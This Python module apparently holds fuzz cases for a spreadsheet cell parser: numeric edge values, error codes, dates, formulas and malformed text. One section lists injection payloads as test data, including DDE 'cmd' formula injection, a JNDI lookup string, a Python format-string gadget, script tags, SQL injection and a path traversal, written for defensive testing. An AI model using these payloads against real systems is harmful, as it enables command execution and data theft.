"""Attacks on the content of one cell: odd numbers, formulas, and text that could be executed."""

from xml.sax.saxutils import escape

from attacks.case import Case, Expected
from attacks.geometry import formatted


def _value(value: str, expected: Expected, reads: int = 7, attributes: str = "", why: str = "") -> Case:
    """Return the case of a cell with this value."""
    return Case(
        f"value {value[:40]!r}{attributes}", expected,
        lambda base: base.probed(f"<v>{value}</v>", attributes).archive(), reads=reads, why=why,
    )  # fmt: skip


def _inside(name: str, expected: Expected, xml: str, attributes: str = "", reads: int = 7, why: str = "") -> Case:
    return Case(name, expected, lambda base: base.probed(xml, attributes).archive(), reads=reads, why=why)


def _shown(name: str, code: str, value: str) -> Case:
    """Return the case of a figure whose number format displays something else."""
    return Case(name, "value", lambda base: formatted(base, code, value))


def _text(text: str, expected: Expected = "value", reads: int = 7, why: str = "") -> Case:
    """Return the case of a cell with this text; XML allows only some characters in it."""
    xml = f'<is><t xml:space="preserve">{escape(text)}</t></is>'
    return Case(
        f"text {text[:40]!r} of {len(text)}", expected, lambda base: base.probed(xml, ' t="inlineStr"').archive(),
        reads=reads, why=why,
    )  # fmt: skip


_EXACT = "a figure written as text, read exactly"
CASES: tuple[Case, ...] = (
    *(_value(value, "value") for value in (
        "NaN", "nan", "INF", "-INF", "Infinity", "1e309", "-1e309", "1e-400x", "12345678901234567890",
        "9007199254740993", "9" * 400, "1_0", "４２", "٣", "0x7", "7,5", "1,234", "7 8", "--7", "+-7", "7e", "e7", ".",
        "-", "+", "seven", "七", "#N/A", "=7", "-7", "7.5", "7.0000001", "1e300", "1e15", "TRUE", "7%", "$7",
        "7-", "(7)",
    )),
    _value("-0", "accept", 0, why="the standard writes 0 so where a product was negative"),
    _value("0", "accept", 0),
    _value("7.0", "accept", 7),
    _value("7E0", "accept", 7),
    _value("0.7e1", "accept", 7),
    _value("700e-2", "accept", 7),
    _value(" 7 ", "accept", 7),
    _value("007", "accept", 7, why="no program writes it, no parser reads it otherwise"),
    _value("+7", "accept", 7, why="the same"),
    _value("7.", "either"),
    _value("1e2", "accept", 100),
    _value("7" + "0" * 30, "value"),
    _value("6.9999999999999999", "either", why="the nearest number that a workbook can hold is 7"),
    _value("7." + "0" * 5000, "accept", 7),
    _value("0." + "0" * 5000 + "7", "accept", 0, why="the nearest number that a workbook can hold is 0"),
    _value("7e-50", "value"),
    _value("", "value"),
    _inside("no value", "value", ""),
    _inside("number format General", "accept", "<v>7</v>", ' t="n"'),
    _inside("unknown type", "value", "<v>7</v>", ' t="q"'),
    _inside("empty type", "either", "<v>7</v>", ' t=""'),
    # booleans, errors, dates
    *(_value(value, "value", attributes=' t="b"') for value in ("1", "0", "true", "7", "")),
    *(_value(value, "value", attributes=' t="e"') for value in (
        "#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!", "#CALC!", "#GETTING_DATA",
        "#FIELD!", "#BLOCKED!", "#BUSY!", "#PYTHON!", "#MADE-UP!", "7", "", "\u202e#A", "[/]",
    )),
    *(_value(value, "value", attributes=' t="d"') for value in (
        "2022-09-20", "2022-09-20T10:00:00Z", "2022-02-30", "0000-00-00", "99999-01-01", "10:00", "now", "7", "",
    )),
    *(_shown(f"day {value}", "yyyy-mm-dd", value) for value in (
        "0", "-1", "60", "44824", "2958465", "2958466", "1e15", "1e308", "-1e15", "NaN", "0.5", "44824.999999999",
    )),
    *(_shown(f"span {value}", "[h]:mm", value) for value in ("7", "-1e15", "1e15", "0.000001")),
    *(_shown(f"share {value}", "0.00%", value) for value in ("0.07", "7", "-1", "1e300")),
    # formulas
    _inside("formula with a result", "accept", "<f>3+4</f><v>7</v>"),
    _inside("formula without a result", "value", "<f>3+4</f>"),
    _inside("formula with an empty result", "value", "<f>3+4</f><v></v>"),
    _inside("formula with an empty text", "value", '<f>""</f><v></v>', ' t="str"'),
    _inside("formula with a text", "value", "<f>A1</f><v>seven</v>", ' t="str"'),
    _inside("formula with an error", "value", "<f>1/0</f><v>#DIV/0!</v>", ' t="e"'),
    _inside("formula of an array", "accept", '<f t="array" ref="D5:D6">3+4</f><v>7</v>'),
    _inside("formula shared from nowhere", "accept", '<f t="shared" si="99"/><v>7</v>'),
    _inside("formula of a data table", "accept", '<f t="dataTable" ref="A1:XFD9" dt2D="1"/><v>7</v>'),
    _inside("formula from another workbook", "accept", "<f>[1]Sheet1!A1</f><v>7</v>", why="its saved result counts"),
    _inside("formula that runs a program", "value", "<f>cmd|' /C calc'!A0</f><v>#REF!</v>", ' t="e"'),
    _inside("formula that leads to itself", "accept", "<f>D5+1</f><v>7</v>", why="its saved result counts"),
    _inside("formula of 8192 letters", "accept", f"<f>{'1+' * 4096}1</f><v>7</v>", why="its saved result counts"),
    _inside("formula behind its result", "accept", "<v>7</v><f>3+4</f>"),
    _inside("two formulas", "either", "<f>1</f><f>2</f><v>7</v>"),
    # text that is a figure
    *(_text(text, "accept", reads, _EXACT) for text, reads in (
        ("7", 7), (" 7 ", 7), ("７", 7), ("４２", 42), ("7.0", 7), ("1,234", 1234), ("7人次", 7),
        ("\u00a07", 7), ("7\n", 7), ("0", 0), ("007", 7),
    )),
    _text("1，234", "either", 1234),
    _text("１，２３４", "either", 1234),
    _text("七", "either", 7),
    _text("约7", "either"),
    _text("1 234", "either", 1234),
    _text("7。0", "either"),
    _text("1e3", "either", 1000),
    # text that is no figure
    *map(_text, (
        "", " ", "\u3000", "\u200b", "seven", "无", "/", "-", "—", "N/A", "#N/A", "?", "O", "l", "½", "²", "Ⅶ", "⑦",
        "٣", "७", "∞", "7/7", "7-8", "7~8", "(7)", "-7", "－7", "7-", "7+7", "=7", "=3+4", "7%", "7‰", "1,23", "1,2,3",
        "1.234,5", "7.5", "7..0", "7。5。1", "0x7", "1_0", "7万", "7元", "７万人次", "9月20日", "2022-09-20",
        "10:00", "TRUE", "是", "12345678901234567890", "9" * 5000, "7" * 32_767, "x" * 100_000, "7" + "\u0301" * 1000,
    )),
    # text that a program could execute or interpret
    *map(_text, (
        "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd", "\t=1", '=HYPERLINK("http://127.0.0.1:9/")',
        "[/]", "[red]x[/red]", "[link=http://x]y", "{0}", "{x.__class__.__init__.__globals__}", "%s%n", "${jndi:ldap://x}",
        "<script>alert(1)</script>", "<b>7</b>", "';DROP TABLE x--", "../../etc/passwd", "\u202e7\u202d",
        "\u2066 7 \u2069", "7\u202e", "\u2028", "\u0085", "\x7f7", "a\u0300" * 500, "😀",
        "\U000e0041\U000e0042", "\ufffd", "\ue000", "\u0600", "_x001B_[2J", "_x001B_]0;x_x0007_", "_x0000_",
        "_x0008__x0008_7", "7_x000D_7", "_xD800_", "_xFFFE_", "_x202E_7", "_x005F_x001B_", "_x009B_31m",
        "\ufeff7", "7\u200b", "'7", "+7",
    )),
    _text("_x0037_", "accept", why="the standard writes characters so"),
    _inside("text without text", "value", "<is/>", ' t="inlineStr"'),
    _inside("text in 2000 runs", "value", f"<is>{'<r><t>7</t></r>' * 2000}</is>", ' t="inlineStr"'),
    _inside("text in two runs", "accept", "<is><r><t>7</t></r><r><t>7</t></r></is>", ' t="inlineStr"', 77),
    _inside("text with its reading", "accept", "<is><t>7</t><rPh><t>9</t></rPh></is>", ' t="inlineStr"'),
    _inside("text twice", "either", "<is><t>7</t><t>9</t></is>", ' t="inlineStr"', 79),
    _inside("text of a formula", "value", "<v>=3+4</v>", ' t="str"'),
)  # fmt: skip
